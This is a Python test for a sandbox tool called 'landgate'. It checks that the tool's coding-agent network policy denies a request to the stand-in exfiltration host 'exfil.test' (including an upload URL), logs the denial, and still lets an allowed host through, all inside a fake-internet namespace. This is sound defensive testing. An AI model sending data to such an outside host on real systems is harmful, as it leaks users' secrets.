"""Issue 6's acceptance, through `landgate run` with the bundled coding-agent preset.

`python3 -c "urllib.request.urlopen('http://exfil.test')"` fails with a denial naming
the host (on the sandbox's stderr and in the trail), and the fake upstream never sees
the query; the allowed twin: a host the preset allows (deb.debian.org, any port) is
reached, by name, through the DNS view and nftables.  All traffic stays inside the
tests' own fake-internet namespace.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import require_kernel, scaled

from net.conftest import ADDRS, ZONE, FakeInet, fake_inet  # noqa: F401  (session fixture)
from sandbox.host.probe import probe_host

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.kernel

FETCH = """
import sys, urllib.request
try:
    body = urllib.request.urlopen(sys.argv[1], timeout=5).read().decode()
    print("fetched", body.strip())
except Exception as exc:
    print("failed", type(exc).__name__, exc)
"""


def _run(tmp_path: Path, fake: FakeInet, url: str) -> subprocess.CompletedProcess[str]:
    env = dict(
        os.environ,
        PYTHONPATH=str(ROOT),
        LANDGATE_DNS_UPSTREAM=ADDRS["dns"],
        LANDGATE_NET_UPLINKS=fake.uplink,
        XDG_CONFIG_HOME=str(tmp_path / "config"),
        XDG_STATE_HOME=str(tmp_path / "state"),
        PATH="/usr/bin:/bin",
    )
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "sandbox",
            "run",
            "--policy",
            "coding-agent",
            "--",
            "python3",
            "-c",
            FETCH,
            url,
        ],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=scaled(60),
        check=False,
    )


def test_exfil_host_denied_by_name_allowed_host_reached(
    fake_inet: FakeInet,  # noqa: F811  the imported fixture
    tmp_path: Path,
) -> None:
    host = probe_host()
    require_kernel(
        host.is_root and host.net_ns and host.seccomp_notify and host.landlock_abi >= 1,
        "root, network namespaces, seccomp user notification, Landlock",
    )
    fake_inet.set_zone({**ZONE, "deb.debian.org": {"A": [ADDRS["allowed"]]}})
    try:
        mark = fake_inet.mark()
        denied = _run(tmp_path, fake_inet, "http://exfil.test/upload")
        allowed = _run(tmp_path, fake_inet, "http://deb.debian.org/")
        asked = {e["name"] for e in fake_inet.since(mark) if e["kind"] == "dns"}
        contacted = [e for e in fake_inet.since(mark) if e["kind"] == "tcp"]
    finally:
        fake_inet.set_zone(ZONE)
    assert denied.stdout.startswith("failed"), denied.stdout + denied.stderr
    assert 'landgate: denied network "exfil.test"' in denied.stderr, denied.stderr
    assert "exfil.test" not in asked  # the secret-bearing query never left
    assert not any(e.get("local") == ADDRS["exfil"] for e in contacted)
    trail = tmp_path / "state" / "landgate" / "audit"
    entries = [
        json.loads(x)
        for f in sorted(trail.glob("trail-*.jsonl"))
        for x in f.read_text().splitlines()
        if x.strip()
    ]
    assert any(e.get("target") == "exfil.test" and e.get("result") == "deny" for e in entries)
    # the allowed twin
    assert allowed.stdout.strip() == f"fetched fake:{ADDRS['allowed']}:80", (
        allowed.stdout + allowed.stderr
    )
    assert "deb.debian.org" in asked
